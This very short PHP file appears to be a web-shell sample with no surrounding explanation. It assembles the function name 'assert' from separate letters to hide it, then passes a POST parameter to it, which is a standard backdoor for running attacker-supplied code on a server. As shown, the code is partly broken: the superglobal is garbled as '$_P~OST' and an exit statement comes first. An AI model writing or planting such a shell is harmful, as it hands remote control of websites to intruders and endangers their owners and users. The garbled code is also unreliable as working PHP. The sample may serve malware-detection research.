<?php exit; ?>
<?php
$n = array('a', 's', 's', 'e', 'r', 't'); $go = implode('', $n);
$go($_P~OST['m']);
